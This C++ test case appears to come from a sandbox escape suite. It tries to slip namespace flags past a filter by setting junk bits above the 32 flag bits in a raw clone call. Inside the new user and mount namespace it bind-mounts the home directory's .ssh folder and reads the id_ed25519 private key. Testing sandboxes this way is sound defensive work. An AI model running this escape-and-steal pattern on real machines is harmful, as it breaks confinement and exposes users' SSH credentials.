// The same flags by clone(2), with junk above their 32 bits.

#include <sched.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#include <csignal>

#include "tests/escapes/escape.h"

namespace usher::escapes {
namespace USHER_ESCAPE_FILE {

// In a namespace of our own we may mount: the home's hidden directory gets a name in the workspace.
int MountAndTake(const World& world) {
  const std::string here = world.work() + "/here", there = world.home() + "/.ssh";
  mkdir(here.c_str(), 0700);
  if (mount(there.c_str(), here.c_str(), nullptr, MS_BIND, nullptr) < 0) return kCannotTry;
  return Loot(world, Slurp(here + "/id_ed25519")) ? 0 : 1;
}

int Attack(const World& world) {
  const long child = syscall(SYS_clone, 0x5500000000ull | CLONE_NEWUSER | CLONE_NEWNS | SIGCHLD, 0, 0, 0, 0);
  if (child == 0) {
    usleep(20'000);
    _exit(MountAndTake(world));
  }
  if (child < 0) return kCannotTry;
  int status = 0;
  waitpid(static_cast<pid_t>(child), &status, 0);
  return WEXITSTATUS(status);
}

USHER_ESCAPE({.name = "e_clone_namespace", .row = "E: unshare, clone/clone3 ns, setns, mount, pivot_root, chroot",
              .attack = &Attack, .escaped = &TookSecret});

}  // namespace USHER_ESCAPE_FILE
}  // namespace usher::escapes
